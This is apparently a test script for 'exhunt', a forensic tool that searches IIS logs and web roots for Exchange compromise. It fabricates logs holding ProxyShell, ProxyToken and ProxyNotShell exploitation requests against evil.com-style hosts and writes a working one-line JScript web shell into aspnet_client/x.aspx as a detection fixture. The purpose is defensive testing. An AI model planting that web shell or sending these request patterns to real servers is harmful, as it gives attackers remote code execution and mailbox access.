# exhunt hunt is never blinded and never depends on timing: a flood of
# internet-scanner lines (anyone can cause one) before the real
# exploitation is counted, not dropped, and the exploitation and the web
# shell are still found; a second #Fields header applies from its line
# on; a run of NUL bytes (unclean shutdown) does not swallow the lines
# after it, in UTF-8 and UTF-16 logs; rotated and gzip-compressed logs are
# read (.gz, and logs inside a .zip) and a damaged one is listed; the same tree hunted with 1, 2 and 8
# threads (on a loaded machine) gives byte-identical JSON; SIGTERM mid-hunt
# gives the partial report, marked so, and exit 4.
. "$(dirname "$0")/lib.sh"
tree="$TMP/ev"
logs="$tree/inetpub/logs/LogFiles/W3SVC1"
mkdir -p "$logs" "$tree/inetpub/wwwroot/aspnet_client"
python3 - "$logs" "${FLOOD_LINES:-1200000}" <<'PY'
import os, sys
d, n = sys.argv[1], int(sys.argv[2])
hdr = "#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\r\n"
scan = "2021-08-10 00:%02d:%02d 10.0.0.5 GET /autodiscover/autodiscover.json @test.com/owa/?&Email=autodiscover/autodiscover.json%%3F@test.com 443 - 198.51.100.%d Mozilla/5.0 302\r\n"
with open(d + "/u_ex210810.log", "w", newline="") as f:
    f.write(hdr)
    for i in range(n):
        f.write(scan % (i // 60 % 60, i % 60, i % 250))
    # A later header with another field order, then the real thing.
    f.write("#Fields: date time c-ip cs-username cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent)\r\n")
    f.write("2021-08-20 11:00:01 203.0.113.66 - POST /autodiscover/autodiscover.json @evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com 200 python-requests/2.26.0\r\n")
# NUL runs: a preallocated log cut by a crash, then the next session.
with open(d + "/u_ex210821.log", "wb") as f:
    f.write(hdr.encode())
    f.write(b"2021-08-21 01:00:00 10.0.0.5 GET /owa/ - 443 - 10.1.2.3 Mozilla 200\r\n2021-08-21 01:00:01 10.0.0.5 GET /o")
    f.write(b"\0" * 70001)
    f.write(b"2021-08-21 09:00:00 10.0.0.5 POST /autodiscover/autodiscover.json @evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.com 443 - 203.0.113.66 python-requests/2.26.0 200\r\n")
u16 = (hdr + "2021-08-22 01:00:00 10.0.0.5 GET /owa/ - 443 - 10.1.2.3 Mozilla 200\r\n").encode("utf-16-le")
u16 += b"\0" * 3333
u16 += "2021-08-22 02:00:00 10.0.0.5 POST /ecp/x@evil.com/RulesEditor/InboxRules.svc/NewObject msExchEcpCanary=1 443 - 203.0.113.66 python-requests 200\r\n".encode("utf-16-le")
open(d + "/u_ex210822.log", "wb").write(b"\xff\xfe" + u16)
# Rotated and compressed copies, as collections bring them.
import gzip
open(d + "/u_ex221205.log.1", "w", newline="").write(hdr + "2022-12-05 02:03:04 10.0.0.5 POST /owa/alice@corp.example/powershell clientId=1 443 CORP\\alice 203.0.113.66 python-requests 200\r\n")
with gzip.open(d + "/u_ex221001.log.2.gz", "wt", newline="") as g:
    g.write(hdr + "2022-10-01 09:10:11 10.0.0.5 POST /autodiscover/autodiscover.json @evil.com/powershell/?&Email=autodiscover/autodiscover.json%3F@evil.com&Protocol=Powershell 443 CORP\\alice 203.0.113.66 python-requests 200\r\n")
open(d + "/u_ex221002.log.gz", "wb").write(b"\x1f\x8b\x08\x00broken")
# A collection's zip of logs.
import zipfile
with zipfile.ZipFile(os.path.join(os.path.dirname(d), "W3SVC2-logs.zip"), "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("W3SVC2/u_ex210830.log", hdr + "2021-08-30 12:00:00 10.0.0.5 POST /ecp/x@evil.com/RulesEditor/InboxRules.svc/NewObject msExchEcpCanary=1 443 - 203.0.113.77 python-requests 200\r\n")
PY
printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["q"],"unsafe");%%>' > "$tree/inetpub/wwwroot/aspnet_client/x.aspx"

"$EXHUNT" hunt "$tree" --format json -o "$TMP/1.json" --threads 1 --no-progress 2>/dev/null || true
python3 - "$TMP/1.json" <<'PY' || fail "the flood blinded the hunt"
import json, sys
r = json.load(open(sys.argv[1]))
v = r["verdicts"]
problems = []
if v["CVE-2021-34473"] != "back-doored": problems.append(f"34473 {v['CVE-2021-34473']}")
if v["CVE-2021-34523"] != "back-doored": problems.append(f"34523 after a NUL run: {v['CVE-2021-34523']}")
if v["CVE-2021-33766"] != "exploited": problems.append(f"33766 after a UTF-16 NUL run: {v['CVE-2021-33766']}")
if v["CVE-2022-41080"] == "not-seen": problems.append("rotated .log.1 not read")
if v["CVE-2022-41040"] == "not-seen": problems.append("compressed .log.2.gz not read")
if not any("W3SVC2-logs.zip/W3SVC2/u_ex210830.log" in f["path"] and f["kind"] == "proxytoken" for f in r["findings"]): problems.append("log inside a zip not read")
if not any("u_ex221002.log.gz" in u for u in r.get("unreadable", [])): problems.append(f"damaged gzip not listed: {r.get('unreadable')}")
if not any(b["path"].endswith("x.aspx") for b in r["backdoors"]): problems.append("shell missing")
scans = [f for f in r["findings"] if f["kind"] == "proxyshell-scan"]
total = len(scans) + sum(f.get("more", 0) for f in scans)
if total != int(sys.argv[2] if len(sys.argv) > 2 else 1200000) and total < 1000000: problems.append(f"scanner lines counted {total}")
if not r["aggregated"] or len(scans) > 100: problems.append(f"not aggregated: {len(scans)} listed")
if problems: print(problems); sys.exit(1)
PY
# Byte-identical whatever the threads, with the other core kept busy.
# json_diff A B: what differs, printed before failing (the members, and
# the first findings that differ).
json_diff() {
	python3 - "$1" "$2" <<'PY' || true
import json, sys
a, b = (json.load(open(p)) for p in sys.argv[1:3])
print("members that differ:", [k for k in a if a.get(k) != b.get(k)])
fa, fb = a.get("findings", []), b.get("findings", [])
print("findings:", len(fa), len(fb))
for x, y in [(x, y) for x, y in zip(fa, fb) if x != y][:3]:
    print(" 1 thread:", json.dumps(x)[:400]); print(" N threads:", json.dumps(y)[:400])
for k in ("notes", "unreadable", "coverage", "next_steps", "timeline"):
    if a.get(k) != b.get(k): print(k, ":", json.dumps(a.get(k))[:400], "|", json.dumps(b.get(k))[:400])
PY
}
( end=$((SECONDS + 20)); while [ $SECONDS -lt $end ]; do :; done ) &
busy=$!
for t in 2 8; do
	"$EXHUNT" hunt "$tree" --format json -o "$TMP/$t.json" --threads $t --no-progress 2>"$TMP/$t.err" || true
	cmp -s "$TMP/1.json" "$TMP/$t.json" || { kill $busy; grep -v '^  [0-9]*\. ' "$TMP/$t.err" | tail -40; json_diff "$TMP/1.json" "$TMP/$t.json"; fail "JSON differs with $t threads"; }
done
kill $busy 2>/dev/null || true
# SIGTERM mid-hunt: what was read is reported, marked partial, exit 4.
python3 - "$tree/inetpub/wwwroot/many" <<'PY'
import os, sys
d = sys.argv[1]
for i in range(40000):
    sub = os.path.join(d, "s%03d" % (i % 400))
    os.makedirs(sub, exist_ok=True)
    open(os.path.join(sub, "p%05d.aspx" % i), "w").write("<%@ Page Language=\"C#\" %><html>" + "x" * 200 + "</html>")
PY
got=""
for delay in 0.4 0.2 0.1 0.05 0.02; do
	"$EXHUNT" hunt "$tree" --format json -o "$TMP/int.json" --no-progress 2>/dev/null &
	pid=$!
	sleep $delay
	kill -TERM $pid 2>/dev/null || true
	set +e; wait $pid; rc=$?; set -e
	if [ $rc = 4 ]; then got=yes; break; fi
	[ $rc = 1 ] || [ $rc = 143 ] || fail "SIGTERM: exit $rc"
done
[ "$got" = yes ] || fail "SIGTERM never landed mid-hunt (exit $rc)"
python3 - "$TMP/int.json" <<'PY' || fail "the partial report"
import json, sys
r = json.load(open(sys.argv[1]))
if not any("interrupted by a signal" in n for n in r["notes"]): sys.exit(1)
PY
pass
